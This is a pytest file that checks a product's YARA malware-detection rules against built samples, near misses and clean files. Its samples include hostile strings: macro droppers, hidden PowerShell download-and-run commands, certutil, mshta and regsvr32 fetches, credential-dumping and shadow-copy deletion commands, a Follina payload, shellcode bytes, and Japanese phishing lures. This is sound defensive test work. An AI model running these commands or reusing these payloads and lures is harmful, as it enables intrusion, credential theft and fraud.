"""The rules that come with the product: each fires on a sample built by code and not on a near miss, none of `high` on anything clean."""

from __future__ import annotations

import base64
import re
import struct
import tomllib
from pathlib import Path

import pytest
import yara

from sanitizers.model import Kind, Severity
from sanitizers.scan import compile_rules
from sanitizers.source import Source
from tests.build import corpus, kinds

RULES = Path(__file__).resolve().parents[2] / "rules"
FILES = {path.name: path.read_text("utf-8") for path in RULES.iterdir() if path.suffix == ".yar" or path.name == "catalog.toml"}
CATALOG = tomllib.loads(FILES["catalog.toml"])
SCANNER = compile_rules(FILES)
META = {
    rule.identifier: rule.meta
    for name, text in FILES.items()
    if name.endswith(".yar")
    for rule in yara.compile(source=text, externals={"kind": "", "where": "", "size": 0})
}

VBA = b'Attribute VB_Name = "ThisDocument"\r\n'
# Put together here, so that neither this file nor the rules hold the test file itself.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"
STUB = b"This program cannot be run " + b"in DOS mode"
PROGRAM = (b"MZ" + bytes(58) + struct.pack("<I", 0x80) + b"\x0e\x1f" + STUB).ljust(0x80, b"\x00") + b"PE\x00\x00" + bytes(32)
X86 = bytes.fromhex("fce882000000" + "6089e531d2648b5230")
X64 = bytes.fromhex("fc4883e4f0e8c0000000" + "4151415052515648")
LINK = kinds.SAMPLES[Kind.LNK][1]
MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
OLE_LINK = bytes.fromhex("0003000000000000c000000000000046")
HOST = b"https://203.0.113.7"


def wide(text: bytes) -> bytes:
    return text.decode("ascii").encode("utf-16-le")


# Rule → samples that it must see: (kind, bytes) or (kind, bytes, where).
FIRES: dict[str, list[tuple[object, ...]]] = {
    "Test_EICAR": [
        (Kind.TEXT, EICAR), (Kind.DOC, bytes(100) + EICAR), (Kind.HTML, b"<a>" + base64.b64encode(EICAR) + b"</a>"),
        (Kind.HTML, base64.b64encode(b"x" + EICAR)), (Kind.RTF, EICAR.hex().encode()), (Kind.XLS, wide(EICAR)), (Kind.EML, EICAR, "body"),
    ],
    "Test_GTUBE": [(Kind.EML, b"XJS*C4JDBQADN1.NSBN3*2IDNEN*" + b"GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X")],
    "Office_AutoOpen": [(Kind.DOC, VBA + b"Sub AutoOpen()\r\nEnd Sub"), (Kind.XLSM, VBA + b"Private Sub Workbook_Open()", "xl/vbaProject.bin")],
    "Office_MacroStartsProgram": [(Kind.DOC, VBA + b'CreateObject("WScript.Shell")'), (Kind.DOC, VBA + b'x = Shell("calc")')],
    "Office_MacroDownloads": [(Kind.DOC, VBA + b'Declare Function URLDownloadToFile Lib "urlmon"'), (Kind.DOC, VBA + b"Msxml2.XMLHTTP")],
    "Office_MacroDropper": [(Kind.DOC, VBA + b'Sub AutoOpen()\nShell "power" & "shell -w hidden (New-Object Net.WebClient).DownloadFile(1,2)"')],
    "Office_MacroObfuscated": [(Kind.DOC, VBA + b"x = " + b"Chr(65) & " * 9 + b'""'), (Kind.DOC, VBA + b'StrReverse("exe.x")')],
    "Office_ExcelMacroSheet": [(Kind.XLSM, b"xl/macrosheets/sheet1.xml"), (Kind.SLK, b'C;X1;Y1;K0;E=EXEC("calc")')],
    "Office_EquationEditor": [
        (Kind.DOC, bytes.fromhex("02ce020000000000c000000000000046")), (Kind.RTF, b"\\objclass Equation.3"), (Kind.RTF, b"Equation.3".hex().encode()),
    ],
    "Office_LinkedObjectFromWeb": [
        (Kind.DOC, OLE_LINK + MONIKER + wide(b"http://a/b")), (Kind.RTF, b"{\\object\\objautlink " + MONIKER.hex().upper().encode() + b"}"),
    ],
    "Office_RemoteTemplate": [
        (Kind.DOCX, b'<Relationship Type="x/attachedTemplate" Target="https://a/t.dotm" TargetMode="External"/>', "word/_rels/settings.xml.rels"),
    ],
    "Office_Dde": [(Kind.DOC, b"DDEAUTO c:\\\\windows\\\\cmd.exe"), (Kind.CSV, b"=cmd|'/c calc'!A0"), (Kind.XLSX, b'ddeService="cmd"')],
    "Office_PackagedProgram": [
        (Kind.DOC, wide(b"\x01Ole10Native") + b"C:\\x\\a.exe\x00"), (Kind.RTF, b"5061636b61676500" + b"a.vbs\x00".hex().encode()),
    ],
    "Office_Follina": [(Kind.HTML, b'<script>location.href = "ms-msdt:/id PCWDiagnostic /param \\"IT_BrowseForFile=/../$(x)\\""</script>')],
    "Pdf_LaunchesProgram": [(Kind.PDF, b"<</S /Launch /F (cmd.exe)>>")],
    "Pdf_ScriptOnOpen": [(Kind.PDF, b"/OpenAction <</S /JavaScript /JS (x)>>")],
    "Pdf_HiddenName": [(Kind.PDF, b"<</S /#4aavaScrip#74 /#4a#53 (x)>>")],
    "Pdf_KnownExploit": [(Kind.PDF, b'x = unescape("%u9090%u9090%u4343%u4343"); Collab.collectEmailInfo({msg: x})', "JavaScript")],
    "Pdf_AttachedProgram": [(Kind.PDF, b"/Type /Filespec /F (invoice.EXE) /EF <</F 1 0 R>> /EmbeddedFiles")],
    "Pdf_RichMedia": [(Kind.PDF, b"/Subtype /RichMedia "), (Kind.PDF, b"/XFA [1 0 R]")],
    "Shellcode_ApiHashBlock": [
        (Kind.DOC, X86), (Kind.DOC, X64), (Kind.TEXT, base64.b64encode(X86)), (Kind.TEXT, base64.b64encode(X64)), (Kind.RTF, X86.hex().encode()),
        (Kind.TEXT, "".join(f"\\x{byte:02x}" for byte in X64).encode()), (Kind.EML, base64.b64encode(X86), "body"),
    ],
    "Shellcode_FindsItself": [(Kind.DOC, bytes.fromhex("d9eed97424f45b")), (Kind.TEXT, bytes.fromhex("64a1300000008b400c"))],
    "Shellcode_EscapedSled": [(Kind.HTML, b"%u9090" * 4), (Kind.TEXT, b"\\x90" * 16), (Kind.RTF, b"90" * 64), (Kind.PDF, b"%u0c0c" * 4)],
    "Shellcode_RawSled": [(Kind.DOC, b"\x90" * 40 + b"\xe8")],
    "Embedded_Program": [(Kind.DOC, bytes(512) + PROGRAM), (Kind.ZIP, PROGRAM)],
    "Embedded_ProgramByHeader": [(Kind.DOC, bytes(512) + PROGRAM.replace(STUB, bytes(len(STUB)))), (Kind.CFB, b"MZMZ" + PROGRAM)],
    "Embedded_ProgramEncoded": [
        (Kind.HTML, base64.b64encode(PROGRAM)), (Kind.HTML, base64.b64encode(b"xx" + PROGRAM)), (Kind.RTF, PROGRAM.hex().encode()),
        (Kind.TEXT, PROGRAM[::-1]), (Kind.TEXT, wide(STUB)), (Kind.EML, base64.b64encode(PROGRAM), "body"),
    ],
    "Embedded_ProgramInBase64": [(Kind.TEXT, b"TVqQAAMAAAAEAAAA" + b"A" * 60)],
    "Embedded_Shortcut": [(Kind.DOC, LINK), (Kind.RTF, LINK.hex().encode()), (Kind.HTML, base64.b64encode(LINK))],
    "Embedded_SelfExtractor": [(Kind.DOC, b"7-Zip SFX"), (Kind.ZIP, wide(b"WinRAR SFX"))],
    "Script_DownloadsAndRuns": [(Kind.DOC, b"powershell (New-Object Net.WebClient).DownloadString('x')"), (Kind.LNK, wide(b"powershell iwr; Invoke-WebRequest"))],
    "Script_EncodedPowerShell": [(Kind.TEXT, b"powershell.exe -nop -w hidden -enc " + b"QUJD" * 20), (Kind.TEXT, b"IEX ([Convert]::FromBase64String('x'))")],
    "Script_SystemToolAbused": [
        (Kind.TEXT, b"certutil.exe -urlcache -f http://a b"), (Kind.TEXT, b"mshta http://a/b.hta"), (Kind.TEXT, b"regsvr32 /s /n /u /i:http://a/b.sct scrobj.dll"),
        (Kind.TEXT, b"bitsadmin /transfer x"), (Kind.TEXT, b'rundll32 "javascript:x'), (Kind.TEXT, b"wmic process call create calc"),
    ],
    "Script_StealsCredentials": [(Kind.TEXT, b"sekurlsa::" + b"logonpasswords"), (Kind.TEXT, b"reg save hklm\\sam x"), (Kind.TEXT, b"procdump -ma lsass.exe")],
    "Script_DeletesBackups": [(Kind.TEXT, b"vssadmin delete shadows /all"), (Kind.TEXT, b"bcdedit /set {default} recoveryenabled no")],
    "Html_Smuggling": [(Kind.HTML, b"<script>b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>")],
    "Html_ObfuscatedScript": [(Kind.HTML, b"eval(function(p,a,c,k,e,d){})"), (Kind.SVG, b"document.write(unescape('%3C'))"), (Kind.HTML, b"var _0x1a2b=['x']")],
    "Html_PhishingForm": [(Kind.HTML, b'<title>Microsoft</title><form action="https://a.example/x"><input name="p" type="password"></form>')],
    "Html_RefreshToData": [(Kind.HTML, b'<meta http-equiv="refresh" content="0;url=data:text/html,x">')],
    "Html_TracksReader": [(Kind.HTML, b'<img src="https://a/x.gif" width="1" height="1">')],
    "Link_ProgramOnBareAddress": [(Kind.TEXT, HOST + b"/dl/a.exe"), (Kind.DOC, wide(HOST + b":8080/b.hta"))],
    "Link_StartsProtocol": [(Kind.HTML, b'<a href="search-ms:query=x">'), (Kind.DOCX, b'Target="ms-officecmd:x"'), (Kind.TEXT, b"search-ms:query=a&crumb=location:\\\\b")],
    "Link_NetworkShare": [(Kind.HTML, b'<img src="file://server.example/x.png">'), (Kind.HTML, b'<img src="\\\\server.example\\x">')],
    "Link_HiddenHost": [(Kind.HTML, b"https://www.city.lg.jp@evil.example/"), (Kind.TEXT, b"https://xn--pple-43d.com/")],
    "Lure_EnableContent": [
        (Kind.DOC, "「コンテンツの有効化」を押す".encode("utf-16-le") + wide(b"_VBA_PROJECT")), (Kind.XLSM, "編集を有効にする".encode() + b"xl/vbaProject.bin"),
        (Kind.XLS, "編集を有効にする".encode("cp932") + wide(b"_VBA_PROJECT")), (Kind.DOC, b"Enable Content" + wide(b"_VBA_PROJECT")),
    ],
    "Lure_AccountStopped": [
        (Kind.EML, "アカウントを停止しました。24時間以内に本人確認を https://a.example/".encode(encoding)) for encoding in ("utf-8", "cp932", "iso2022_jp")
    ],
    "Lure_OverdueTax": [(Kind.EML, "国税庁より：未納の税金。差し押さえの最終通知 https://a.example/".encode())],
    "Lure_PackedAndLocked": [(Kind.EML, 'Content-Disposition: attachment; filename="a.zip"\r\n\r\n解凍パスワード'.encode("iso2022_jp"))],
}  # fmt: skip

# Rule → what comes near to what it means and is not it: one word, byte or condition short.
NEAR: dict[str, list[tuple[object, ...]]] = {
    "Test_EICAR": [(Kind.TEXT, EICAR[:-1]), (Kind.TEXT, EICAR.lower()), (Kind.EML, EICAR), (Kind.HTML, base64.b64encode(EICAR[:-4]))],
    "Test_GTUBE": [(Kind.EML, b"XJS*C4JDBQADN1.NSBN3*2IDNEN*" + b"GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34")],
    "Office_AutoOpen": [(Kind.DOC, VBA + b"Sub OpenedAutomatically()"), (Kind.TEXT, b"Sub AutoOpen()")],
    "Office_MacroStartsProgram": [(Kind.DOC, VBA + b"x = Shelly(1)"), (Kind.TEXT, b'CreateObject("WScript.Shell")')],
    "Office_MacroDownloads": [(Kind.DOC, VBA + b"Msxml2.DOMDocument"), (Kind.TEXT, b"Msxml2.XMLHTTP")],
    "Office_MacroDropper": [
        (Kind.DOC, VBA + b'Sub AutoOpen()\nShell "powershell (New-Object Net.WebClient).DownloadFile(1,2)"'),     # hides nothing
        (Kind.DOC, VBA + b'Sub Button1_Click()\nShell "powershell -w hidden (New-Object Net.WebClient).DownloadFile(1,2)"'),
        (Kind.TEXT, b'Sub AutoOpen()\nShell "powershell -w hidden (New-Object Net.WebClient).DownloadFile(1,2)"'),
    ],
    "Office_MacroObfuscated": [(Kind.DOC, VBA + b"x = " + b"Chr(65) & " * 7 + b'""'), (Kind.DOC, VBA + b"StrReverse(name)")],
    "Office_ExcelMacroSheet": [(Kind.XLSX, b"xl/worksheets/sheet1.xml"), (Kind.SLK, b"C;X1;Y1;K0;E=SUM(R1C1)")],
    "Office_EquationEditor": [(Kind.DOC, bytes.fromhex("02ce030000000000c000000000000046")), (Kind.RTF, b"\\objclass Equation.DSMT4")],
    "Office_LinkedObjectFromWeb": [(Kind.DOC, OLE_LINK + wide(b"http://a/b")), (Kind.RTF, b"{\\object\\objemb " + MONIKER.hex().encode() + b"}")],
    "Office_RemoteTemplate": [
        (Kind.DOCX, b'<Relationship Type="x/attachedTemplate" Target="Normal.dotm" TargetMode="External"/>', "word/_rels/settings.xml.rels"),
        (Kind.DOCX, b'<Relationship Type="x/hyperlink" Target="https://a/" TargetMode="External"/>', "word/_rels/document.xml.rels"),
    ],
    "Office_Dde": [(Kind.CSV, b"=A1|'x'!A0"), (Kind.DOC, b"DDEAUTO excel a.xls r1c1")],
    "Office_PackagedProgram": [(Kind.DOC, wide(b"\x01Ole10Native") + b"C:\\x\\a.txt\x00"), (Kind.RTF, b"5061636b61676500" + b"a.txt\x00".hex().encode())],
    "Office_Follina": [(Kind.HTML, b'ms-msdt:/id PCWDiagnostic /param "IT_BrowseForFile=x"'), (Kind.TEXT, "ms-msdt: の脆弱性について".encode())],
    "Pdf_LaunchesProgram": [(Kind.PDF, b"<</S /Launched /F (cmd.exe)>>"), (Kind.TEXT, b"<</S /Launch /F (cmd.exe)>>")],
    "Pdf_ScriptOnOpen": [(Kind.PDF, b"/OpenAction [1 0 R /Fit] "), (Kind.PDF, b"/A <</S /JavaScript /JS (x)>>")],
    "Pdf_HiddenName": [(Kind.PDF, b"<</S /JavaScript /#4a#53 (x)>>"), (Kind.PDF, b"/BaseFont /MS#2dGothic")],
    "Pdf_KnownExploit": [
        (Kind.PDF, b"Collab.collectEmailInfo({msg: x})", "JavaScript"), (Kind.PDF, b'unescape("%u9090%u9090%u4343%u4343")', "JavaScript"),
        (Kind.PDF, b'util.printf("%5f", 1); unescape("%20")', "JavaScript"),
    ],
    "Pdf_AttachedProgram": [(Kind.PDF, b"/Type /Filespec /F (invoice.xml) /EF <</F 1 0 R>> /EmbeddedFiles"), (Kind.PDF, b"/F (setup.exe)")],
    "Pdf_RichMedia": [(Kind.PDF, b"/Subtype /RichText "), (Kind.TEXT, b"/XFA [1 0 R]")],
    "Shellcode_ApiHashBlock": [(Kind.DOC, X86[:-1]), (Kind.DOC, X64[:-2]), (Kind.PE, X86), (Kind.EML, base64.b64encode(X86))],
    "Shellcode_FindsItself": [(Kind.DOC, bytes.fromhex("d9eed97424f45c")), (Kind.PE, bytes.fromhex("64a1300000008b400c"))],
    "Shellcode_EscapedSled": [(Kind.HTML, b"%u9090" * 3), (Kind.TEXT, b"\\x90" * 15), (Kind.RTF, b"90" * 63), (Kind.TEXT, b"90" * 64)],
    "Shellcode_RawSled": [(Kind.DOC, b"\x90" * 31 + b"\xe8"), (Kind.PNG, b"\x90" * 40 + b"\xe8")],
    "Embedded_Program": [(Kind.DOC, STUB[:-1]), (Kind.PE, PROGRAM)],
    "Embedded_ProgramByHeader": [(Kind.DOC, bytes(512) + PROGRAM.replace(b"PE\0\0", b"PE\0\1")), (Kind.ZIP, PROGRAM)],
    "Embedded_ProgramEncoded": [(Kind.HTML, base64.b64encode(PROGRAM[:90])), (Kind.RTF, STUB[:-1].hex().encode()), (Kind.EML, base64.b64encode(PROGRAM))],
    "Embedded_ProgramInBase64": [(Kind.TEXT, b"TVqQAAMAAAAEAAAA" + b"A" * 40), (Kind.EML, b"TVqQAAMAAAAEAAAA" + b"A" * 60)],
    "Embedded_Shortcut": [(Kind.DOC, LINK[:19]), (Kind.LNK, LINK)],
    "Embedded_SelfExtractor": [(Kind.DOC, b"7-Zip archive"), (Kind.PE, b"7-Zip SFX")],
    "Script_DownloadsAndRuns": [(Kind.TEXT, b"powershell Get-Date"), (Kind.TEXT, b"Net.WebClient is a class")],
    "Script_EncodedPowerShell": [(Kind.TEXT, b"powershell.exe -File a.ps1 -encoding utf8"), (Kind.TEXT, b"[Convert]::FromBase64String('x')")],
    "Script_SystemToolAbused": [(Kind.TEXT, b"certutil.exe -hashfile a.zip SHA256"), (Kind.TEXT, b"mshta.exe"), (Kind.TEXT, b"regsvr32 /s a.dll")],
    "Script_StealsCredentials": [(Kind.TEXT, b"procdump -ma excel.exe"), (Kind.TEXT, b"reg save hkcu\\software x")],
    "Script_DeletesBackups": [(Kind.TEXT, b"vssadmin list shadows"), (Kind.TEXT, b"bcdedit /set {default} recoveryenabled yes")],
    "Html_Smuggling": [(Kind.HTML, b"<script>b=new Blob([text]);a.href=URL.createObjectURL(b);a.download='x.csv'</script>")],
    "Html_ObfuscatedScript": [(Kind.HTML, b"eval(x)"), (Kind.SVG, b"document.write('%3C')"), (Kind.TEXT, b"eval(function(p,a,c,k,e,d){})")],
    "Html_PhishingForm": [
        (Kind.HTML, b'<title>Microsoft</title><form action="/login"><input name="p" type="password"></form>'),
        (Kind.HTML, b'<title>Microsoft</title><form action="https://a.example/x"><input name="q" type="text"></form>'),
    ],
    "Html_RefreshToData": [(Kind.HTML, b'<meta http-equiv="refresh" content="0;url=https://www.example.lg.jp/">')],
    "Html_TracksReader": [(Kind.HTML, b'<img src="https://a/x.gif" width="100" height="100">'), (Kind.TEXT, b'<img src="https://a/x.gif" width="1">')],
    "Link_ProgramOnBareAddress": [(Kind.TEXT, HOST + b"/dl/a.pdf"), (Kind.TEXT, b"https://www.example.jp/dl/a.exe")],
    "Link_StartsProtocol": [(Kind.HTML, b'<a href="https://search-ms.example/">'), (Kind.TEXT, b"search-ms:query=a")],
    "Link_NetworkShare": [(Kind.HTML, b'<img src="https://server.example/x.png">'), (Kind.TEXT, b"\\\\server.example\\x")],
    "Link_HiddenHost": [(Kind.HTML, b"https://www.city.lg.jp/@evil.example/"), (Kind.TEXT, b"https://xn--wgv71a.jp/")],
    "Lure_EnableContent": [(Kind.DOCX, "「コンテンツの有効化」を押す".encode()), (Kind.XLSM, "有効".encode() + b"xl/vbaProject.bin")],
    "Lure_AccountStopped": [
        (Kind.EML, "アカウントを停止しました。本人確認を https://a.example/".encode()), (Kind.EML, "アカウントを停止しました。24時間以内に本人確認を".encode()),
        (Kind.TEXT, "アカウントを停止しました。24時間以内に本人確認を https://a.example/".encode()),
    ],
    "Lure_OverdueTax": [(Kind.EML, "国税庁より：未納の税金について https://a.example/".encode()), (Kind.EML, "未納の税金。最終通知 https://a.example/".encode())],
    "Lure_PackedAndLocked": [
        (Kind.EML, 'Content-Disposition: attachment; filename="a.pdf"\r\n\r\n解凍パスワード'.encode("iso2022_jp")),
        (Kind.EML, 'Content-Disposition: attachment; filename="a.zip"\r\n\r\nパスワード'.encode("iso2022_jp")),
    ],
}  # fmt: skip

CLEAN = [
    (Kind.TEXT, "マクロを有効にしてください。パスワードは別途送付します。本人確認書類を同封。 https://www.city.example.lg.jp/".encode()),
    (Kind.EML, b"From: a@example.jp\r\n\r\n" + base64.b64encode(EICAR)),       # the attachment is looked at as the part that it is
    (Kind.EML, b"From: a@example.jp\r\n\r\n" + base64.b64encode(PROGRAM)),
    (Kind.DOC, VBA + b"Sub Button1_Click()\r\nRange(1).Value = 2\r\nEnd Sub"),
    (Kind.DOC, MONIKER + wide(b"https://www.example.lg.jp/")),                     # an ordinary hyperlink
    (Kind.HTML, b'<form action="/search"><input type="text"></form><script>document.write("x")</script>'),
    (Kind.PDF, b"/OpenAction [1 0 R /XYZ 0 0 1] /URI (https://www.example.lg.jp/)"),
    (Kind.PNG, b"\x90" * 4096),
    (Kind.PE, PROGRAM),
    (Kind.CSV, "氏名,電話\r\n山田,+81-3-1234-5678\r\n".encode("cp932")),
    *((kind, data) for kind, (_, data) in kinds.SAMPLES.items() if kind not in (Kind.LNK, Kind.SCRIPT)),
]


def found(kind: Kind, data: bytes, where: str = "") -> set[str]:
    return {match.rule for match in SCANNER.scan(Source(data), where, kind)}


def test_every_rule_has_its_row_and_every_row_its_rule() -> None:
    assert set(META) == set(CATALOG)


def test_every_row_is_complete() -> None:
    for name, row in CATALOG.items():
        assert set(row) == {"state", "owner", "why_ja", "why_en"}, name
        assert row["state"] in ("enabled", "evaluation", "disabled"), name
        assert row["owner"], name
        assert not row["why_ja"].isascii(), name
        assert row["why_en"].isascii(), name


def test_every_rule_says_who_and_what() -> None:
    for name, meta in META.items():
        assert re.fullmatch(r"SKS-\d{4}", meta["id"]), name
        assert meta["severity"] in set(Severity), name
        assert meta["author"] == "Sekisho", name
        assert re.fullmatch(r"\d+\.\d+\.\d+", meta["since"]), name
    assert len({meta["id"] for meta in META.values()}) == len(META)


def test_no_two_files_have_a_rule_of_the_same_name() -> None:
    names = re.findall(r"^rule (\w+)", "\n".join(FILES.values()), re.MULTILINE)
    assert len(names) == len(set(names))


def test_no_rule_file_is_malware_to_a_scanner() -> None:
    for text in FILES.values():
        assert EICAR not in text.encode()


def test_there_are_samples_for_every_rule() -> None:
    assert set(FIRES) == set(NEAR) == set(META)


@pytest.mark.parametrize("rule", sorted(META))
def test_a_rule_fires_on_each_of_its_samples(rule: str) -> None:
    for sample in FIRES[rule]:
        assert rule in found(*sample), sample  # type: ignore[arg-type]


@pytest.mark.parametrize("rule", sorted(META))
def test_a_rule_is_silent_on_what_only_comes_near(rule: str) -> None:
    for sample in NEAR[rule]:
        assert rule not in found(*sample), sample  # type: ignore[arg-type]


@pytest.mark.parametrize("index", range(len(CLEAN)))
def test_nothing_fires_on_clean_samples(index: int) -> None:
    assert found(*CLEAN[index]) == set()


def test_a_rule_under_evaluation_only_informs() -> None:
    trial = next(rule for rule, row in CATALOG.items() if row["state"] == "evaluation" and META[rule]["severity"] != "info")
    matches = SCANNER.scan(Source(FIRES[trial][0][1]), "", FIRES[trial][0][0])  # type: ignore[arg-type]
    assert {m.severity for m in matches if m.rule == trial} == {Severity.INFO}


# Real files that carry a test mark: anything else with a `high` match is a false alarm.
MARKED = "eicar"
ASK = """
import json, pathlib, sys
from sanitizers.identify import identify
from sanitizers.scan import compile_rules
from sanitizers.source import Source
top, rules = pathlib.Path(sys.argv[1]), pathlib.Path("rules")
scanner = compile_rules({path.name: path.read_text("utf-8") for path in rules.iterdir() if path.suffix in (".yar", ".toml")})
answer = {}
for path in top.rglob("*"):
    if path.is_file():
        source = Source(path.read_bytes())
        answer[str(path.relative_to(top))] = [m.rule for m in scanner.scan(source, "", identify(source, path.name)) if m.severity == "high"]
print(json.dumps(answer))
"""


@pytest.mark.corpus
@pytest.mark.skipif(not corpus.manifest(), reason="the shared corpus is absent")
def test_no_high_rule_fires_on_an_honest_real_file() -> None:
    marked = {row["path"] for row in corpus.manifest() if MARKED in row["traits"].split(",")}
    alarms = {path for path, rules in corpus.ask(ASK).items() if rules}
    assert marked
    assert alarms == marked
